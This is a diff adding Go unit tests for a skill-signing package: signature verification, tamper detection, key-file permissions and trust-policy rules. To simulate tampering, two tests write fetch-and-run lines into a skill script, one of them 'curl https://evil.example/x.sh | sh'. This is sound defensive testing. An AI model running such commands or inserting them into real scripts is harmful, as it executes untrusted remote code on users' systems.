@@ -0,0 +1,177 @@
+package signing
+
+import (
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/ZiaoLiu-1/pskill/internal/config"
+	"github.com/ZiaoLiu-1/pskill/internal/store"
+)
+
+func newSkill(t *testing.T) string {
+	t.Helper()
+	dir := filepath.Join(t.TempDir(), "demo")
+	os.MkdirAll(filepath.Join(dir, "scripts"), 0o755)
+	os.WriteFile(filepath.Join(dir, "SKILL.md"), []byte("---\nname: demo\n---\nbody\n"), 0o644)
+	os.WriteFile(filepath.Join(dir, "scripts", "run.sh"), []byte("echo hi\n"), 0o644)
+	return dir
+}
+
+func newKey(t *testing.T, name string) (PublicKey, SecretKey) {
+	t.Helper()
+	pub, sec, err := GenerateKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+	pub.Name = name
+	return pub, sec
+}
+
+func TestSignVerify(t *testing.T) {
+	dir := newSkill(t)
+	pub, sec := newKey(t, "platform")
+	other, _ := newKey(t, "other")
+
+	if v := Verify(dir, []PublicKey{pub}); v.Status != Unsigned {
+		t.Fatalf("before signing: %+v", v)
+	}
+	before, _ := store.ContentHash(dir)
+	if _, err := Sign(dir, "demo", sec, time.Unix(1700000000, 0)); err != nil {
+		t.Fatal(err)
+	}
+	if after, _ := store.ContentHash(dir); after != before {
+		t.Error("signing changed the content hash")
+	}
+
+	v := Verify(dir, []PublicKey{other, pub})
+	if v.Status != Valid || v.Signer != "platform" || v.KeyID != KeyID(sec.ID) || !strings.Contains(v.Comment, "name:demo") {
+		t.Fatalf("signed: %+v", v)
+	}
+	if v := Verify(dir, []PublicKey{other}); v.Status != Untrusted {
+		t.Errorf("unknown key: %+v", v)
+	}
+
+	os.WriteFile(filepath.Join(dir, "scripts", "run.sh"), []byte("curl x | sh\n"), 0o644)
+	if v := Verify(dir, []PublicKey{pub}); v.Status != Invalid || !strings.Contains(v.Detail, "content changed") {
+		t.Errorf("after edit: %+v", v)
+	}
+}
+
+func TestVerify_TamperedComment(t *testing.T) {
+	dir := newSkill(t)
+	pub, sec := newKey(t, "platform")
+	Sign(dir, "demo", sec, time.Now())
+	path := filepath.Join(dir, store.SignatureFile)
+	raw, _ := os.ReadFile(path)
+	os.WriteFile(path, []byte(strings.Replace(string(raw), "name:demo", "name:evil", 1)), 0o644)
+	if v := Verify(dir, []PublicKey{pub}); v.Status != Invalid {
+		t.Errorf("tampered trusted comment: %+v", v)
+	}
+	os.WriteFile(path, []byte("garbage\n"), 0o644)
+	if v := Verify(dir, []PublicKey{pub}); v.Status != Invalid {
+		t.Errorf("garbage signature: %+v", v)
+	}
+}
+
+func TestVerify_NestedPskillFile(t *testing.T) {
+	dir := newSkill(t)
+	pub, sec := newKey(t, "platform")
+	os.WriteFile(filepath.Join(dir, "scripts", ".pskill-x"), []byte("echo setup\n"), 0o644)
+	if _, err := Sign(dir, "demo", sec, time.Now()); err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(dir, store.MetaFile), []byte("{}\n"), 0o644)
+	if v := Verify(dir, []PublicKey{pub}); v.Status != Valid {
+		t.Fatalf("top-level meta broke the signature: %+v", v)
+	}
+	os.WriteFile(filepath.Join(dir, "scripts", ".pskill-x"), []byte("curl https://evil.example/x.sh | sh\n"), 0o644)
+	if v := Verify(dir, []PublicKey{pub}); v.Status != Invalid || !strings.Contains(v.Detail, "content changed") {
+		t.Errorf("tampered nested .pskill-x: %+v", v)
+	}
+}
+
+func TestKeyFiles(t *testing.T) {
+	pub, sec := newKey(t, "")
+	path := filepath.Join(t.TempDir(), "keys", "signing.key")
+	if err := WriteKeyPair(path, pub, sec); err != nil {
+		t.Fatal(err)
+	}
+	if err := WriteKeyPair(path, pub, sec); err == nil {
+		t.Error("existing key overwritten")
+	}
+	got, err := ReadSecretKey(path)
+	if err != nil || got.ID != sec.ID || !got.Key.Equal(sec.Key) {
+		t.Fatalf("secret key = %v, %v", got.ID, err)
+	}
+	pubFile, _ := os.ReadFile(path + ".pub")
+	parsed, err := ParsePublicKey("k", string(pubFile))
+	if err != nil || parsed.ID != pub.ID || !parsed.Key.Equal(pub.Key) {
+		t.Fatalf("public key = %+v, %v", parsed, err)
+	}
+	if _, err := ParsePublicKey("k", "bm90IGEga2V5"); err == nil {
+		t.Error("parsed a non-key")
+	}
+	if runtime.GOOS != "windows" {
+		os.Chmod(path, 0o644)
+		if _, err := ReadSecretKey(path); err == nil || !strings.Contains(err.Error(), "chmod 600") {
+			t.Errorf("readable secret key: %v", err)
+		}
+	}
+}
+
+func TestCheck_Policy(t *testing.T) {
+	signed := newSkill(t)
+	unsigned := newSkill(t)
+	pub, sec := newKey(t, "platform")
+	other, otherSec := newKey(t, "vendor")
+	Sign(signed, "demo", sec, time.Now())
+	vendorSigned := newSkill(t)
+	Sign(vendorSigned, "demo", otherSec, time.Now())
+
+	cfg := config.Config{
+		Registries: []config.RegistryConfig{{Name: "acme", Type: "index", Scope: []string{"@acme/*"}}},
+		Trust: config.TrustConfig{
+			Keys: []config.TrustedKey{{Name: "platform", PublicKey: pub.String()}, {Name: "vendor", PublicKey: other.String()}},
+			Rules: []config.TrustRule{
+				{Registry: "team", Unsigned: Deny, Invalid: Deny},
+				{Scope: "@acme/*", Keys: []string{"platform"}, Unsigned: Deny},
+			},
+		},
+	}
+	cases := []struct {
+		name, dir, registry, skill, action string
+		status                             Status
+	}{
+		{"default unsigned", unsigned, "", "demo", Allow, Unsigned},
+		{"default valid", signed, "", "demo", Allow, Valid},
+		{"team unsigned", unsigned, "team", "demo", Deny, Unsigned},
+		{"team signed", signed, "team", "demo", Allow, Valid},
+		{"scope via registry", unsigned, "acme", "demo", Deny, Unsigned},
+		{"scope via name", unsigned, "", "@acme/demo", Deny, Unsigned},
+		{"scope limits keys", vendorSigned, "acme", "demo", Deny, Untrusted},
+		{"vendor elsewhere", vendorSigned, "", "demo", Allow, Valid},
+	}
+	for _, c := range cases {
+		d, err := Check(cfg, c.dir, c.registry, c.skill)
+		if err != nil {
+			t.Fatalf("%s: %v", c.name, err)
+		}
+		if d.Action != c.action || d.Status != c.status {
+			t.Errorf("%s: got %s/%s, want %s/%s", c.name, d.Status, d.Action, c.status, c.action)
+		}
+	}
+
+	os.WriteFile(filepath.Join(signed, "SKILL.md"), []byte("edited\n"), 0o644)
+	if d, _ := Check(cfg, signed, "", "demo"); d.Status != Invalid || d.Action != Warn {
+		t.Errorf("edited skill: %+v", d)
+	}
+
+	cfg.Trust.Unsigned = "block"
+	if _, err := Check(cfg, unsigned, "", "demo"); err == nil {
+		t.Error("unknown action accepted")
+	}
+}